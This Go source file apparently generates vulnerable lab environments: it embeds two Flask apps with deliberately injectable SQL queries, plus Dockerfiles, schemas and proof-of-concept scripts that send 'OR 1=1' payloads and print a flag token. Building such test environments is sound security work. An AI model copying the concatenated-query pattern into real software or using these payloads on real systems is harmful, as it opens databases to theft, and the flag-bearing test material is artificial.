package synthesis

// File payloads for the built-in template pool. Each template is a
// complete, build-ready bundle; the PoCs emit the rule-expected success
// signature and flag token so verification needs no per-template wiring.

const sqliteAppPy = `import os
import sqlite3
from pathlib import Path
from flask import Flask, g, jsonify, request

APP_DB_PATH = os.environ.get("APP_DB_PATH", "/tmp/app.db")
app = Flask(__name__)


def get_db():
    if "db" not in g:
        g.db = sqlite3.connect(APP_DB_PATH)
        g.db.row_factory = sqlite3.Row
    return g.db


def init_db():
    db = get_db()
    schema_sql = Path(__file__).with_name("schema.sql").read_text()
    db.executescript(schema_sql)
    db.commit()


def ensure_db_initialized():
    if Path(APP_DB_PATH).exists():
        return
    with app.app_context():
        init_db()


ensure_db_initialized()


@app.teardown_appcontext
def close_connection(exception):
    db = g.pop("db", None)
    if db is not None:
        db.close()


@app.route("/users")
def list_users():
    db = get_db()
    rows = db.execute("SELECT id, username, password FROM users").fetchall()
    return jsonify([dict(row) for row in rows])


@app.route("/profile")
def get_profile():
    user_id = request.args.get("id", "1")
    # Intentionally vulnerable raw query for CWE-89 demonstration.
    query = f"SELECT id, username, password FROM users WHERE id = {user_id};"
    app.logger.warning("Executing raw query: %s", query)
    db = get_db()
    rows = db.execute(query).fetchall()
    return jsonify([dict(row) for row in rows])


if __name__ == "__main__":
    app.run(host="0.0.0.0", port=5000)
`

const sqliteSchemaSQL = `DROP TABLE IF EXISTS users;
CREATE TABLE users (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    username TEXT NOT NULL,
    password TEXT NOT NULL
);

INSERT INTO users (username, password) VALUES
    ('alice', 'alice_pw'),
    ('bob', 'bob_pw'),
    ('charlie', 'charlie_pw');
`

const sqliteDockerfile = `FROM python:3.11-slim
WORKDIR /app
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY . .
ENV FLASK_APP=app.py
EXPOSE 5000
CMD ["python", "app.py"]
`

const sqliteRequirements = "Flask==3.0.0\nrequests==2.31.0\n"

const sqlitePoCPy = `import argparse
import json
import sys

import requests

DEFAULT_PAYLOAD = "1 OR 1=1"


def exploit(base_url: str, payload: str = DEFAULT_PAYLOAD) -> bool:
    resp = requests.get(f"{base_url}/profile", params={"id": payload}, timeout=5)
    resp.raise_for_status()
    data = resp.json()
    print(json.dumps(data, indent=2))
    return len(data) > 1


def main():
    parser = argparse.ArgumentParser(description="SQLi tautology PoC")
    parser.add_argument("--base-url", default="http://127.0.0.1:5000")
    parser.add_argument("--payload", default=DEFAULT_PAYLOAD)
    args = parser.parse_args()
    success = exploit(args.base_url, args.payload)
    if success:
        print("SQLi SUCCESS")
        print("FLAG-sqli-demo-token")
    else:
        print("SQLi FAILED")
        sys.exit(1)


if __name__ == "__main__":
    main()
`

const mysqlAppPy = `import os
import time
from contextlib import closing

import mysql.connector
from flask import Flask, jsonify, request

APP_PORT = int(os.environ.get("APP_PORT", "5000"))

DB_CONFIG = {
    "host": os.environ.get("DB_HOST", "sqli-db"),
    "port": int(os.environ.get("DB_PORT", "3306")),
    "user": os.environ.get("DB_USER", "sqli"),
    "password": os.environ.get("DB_PASSWORD", "sqli_pw"),
    "database": os.environ.get("DB_NAME", "sqliapp"),
}

SCHEMA_STATEMENTS = [
    "CREATE TABLE IF NOT EXISTS accounts (id INT PRIMARY KEY, owner VARCHAR(64), balance INT)",
    "CREATE TABLE IF NOT EXISTS audit_tokens (id INT PRIMARY KEY AUTO_INCREMENT, token VARCHAR(128) NOT NULL)",
    "INSERT INTO accounts (id, owner, balance) VALUES (1001, 'alice', 1200) ON DUPLICATE KEY UPDATE owner=VALUES(owner), balance=VALUES(balance)",
    "INSERT INTO accounts (id, owner, balance) VALUES (1002, 'bob', 800) ON DUPLICATE KEY UPDATE owner=VALUES(owner), balance=VALUES(balance)",
    "INSERT INTO audit_tokens (token) VALUES ('FLAG-sqli-demo-token') ON DUPLICATE KEY UPDATE token=token",
]

app = Flask(__name__)


def _connect(database=None):
    cfg = DB_CONFIG.copy()
    if database is not None:
        cfg["database"] = database
    return mysql.connector.connect(**cfg)


def wait_for_db():
    deadline = time.time() + 60
    while time.time() < deadline:
        try:
            with closing(_connect(database="")) as conn:
                cursor = conn.cursor()
                cursor.execute(f"CREATE DATABASE IF NOT EXISTS {DB_CONFIG['database']}")
                conn.commit()
            return
        except mysql.connector.Error:
            time.sleep(2)
    raise RuntimeError("Database not reachable within timeout")


def bootstrap_schema():
    wait_for_db()
    with closing(_connect()) as conn:
        cursor = conn.cursor()
        for statement in SCHEMA_STATEMENTS:
            cursor.execute(statement)
        conn.commit()


bootstrap_schema()


def query_db(sql: str):
    with closing(_connect()) as conn:
        cursor = conn.cursor(dictionary=True)
        cursor.execute(sql)
        return cursor.fetchall()


@app.route("/accounts")
def accounts():
    rows = query_db("SELECT id, owner, balance FROM accounts ORDER BY id")
    return jsonify(rows)


@app.route("/statement")
def unsafe_statement():
    account = request.args.get("account", "1001")
    # CWE-89: account parameter is concatenated, allowing UNION-based injection.
    sql = (
        "SELECT id, owner, balance FROM accounts WHERE id = "
        f"{account} UNION SELECT id, token as owner, token as balance FROM audit_tokens"
    )
    app.logger.warning("Executing raw SQL: %s", sql)
    rows = query_db(sql)
    return jsonify(rows)


if __name__ == "__main__":
    app.run(host="0.0.0.0", port=APP_PORT)
`

const mysqlDockerfile = `FROM python:3.11-slim
WORKDIR /app
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY . .
EXPOSE 5000
CMD ["python", "app.py"]
`

const mysqlRequirements = "Flask==3.0.0\nmysql-connector-python==8.4.0\nrequests==2.31.0\n"

const mysqlPoCPy = `import argparse
import json
import sys
import time

import requests

DEFAULT_PAYLOAD = "1001 OR 1=1"


def exploit(base_url: str, payload: str = DEFAULT_PAYLOAD) -> bool:
    resp = requests.get(f"{base_url}/statement", params={"account": payload}, timeout=10)
    resp.raise_for_status()
    data = resp.json()
    print(json.dumps(data, indent=2))
    # Expect at least three rows when UNION succeeds (2 accounts + audit token)
    return len(data) >= 3


def wait_for_service(base_url: str, retries: int = 10) -> None:
    for _ in range(retries):
        try:
            requests.get(f"{base_url}/accounts", timeout=5)
            return
        except requests.RequestException:
            time.sleep(2)
    raise RuntimeError("Service not reachable")


def main():
    parser = argparse.ArgumentParser(description="MySQL UNION SQLi PoC")
    parser.add_argument("--base-url", default="http://127.0.0.1:5000")
    parser.add_argument("--payload", default=DEFAULT_PAYLOAD)
    args = parser.parse_args()
    wait_for_service(args.base_url)
    success = exploit(args.base_url, args.payload)
    if success:
        print("SQLi SUCCESS")
        print("FLAG-sqli-demo-token")
    else:
        print("SQLi FAILED")
        sys.exit(1)


if __name__ == "__main__":
    main()
`
